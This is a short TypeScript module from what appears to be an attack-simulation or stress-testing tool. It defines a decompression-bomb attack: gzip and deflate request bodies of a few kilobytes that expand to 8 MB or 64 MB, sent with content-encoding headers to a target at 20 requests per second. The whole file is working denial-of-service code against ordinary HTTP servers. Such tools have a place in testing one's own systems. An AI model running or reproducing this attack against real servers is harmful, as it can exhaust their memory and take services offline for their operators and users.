// Bodies of 8 kB that decompress to 8 MB, or to more than is allowed: 20 per second.
import { deflateSync, gzipSync } from 'node:zlib';
import { type Attack, turns } from '../attack';
import { float, inferPath } from '../networks';
import { send } from '../requests';

export const attack: Attack = (target, tally) => {
  const [allowed, tooMuch] = [Buffer.alloc(8 << 20, 0x20), Buffer.alloc(64 << 20)];
  const requests = [
    { encoding: 'gzip', body: gzipSync(allowed) },
    { encoding: 'gzip', body: gzipSync(tooMuch) },
    { encoding: 'deflate', body: deflateSync(allowed) },
  ];
  return async (signal) => {
    let i = 0;
    for await (const _ of turns(20, signal)) {
      const { encoding, body } = requests[i++ % requests.length]!;
      void send(target, tally, { path: inferPath(float), headers: { 'content-encoding': encoding }, body });
    }
  };
};
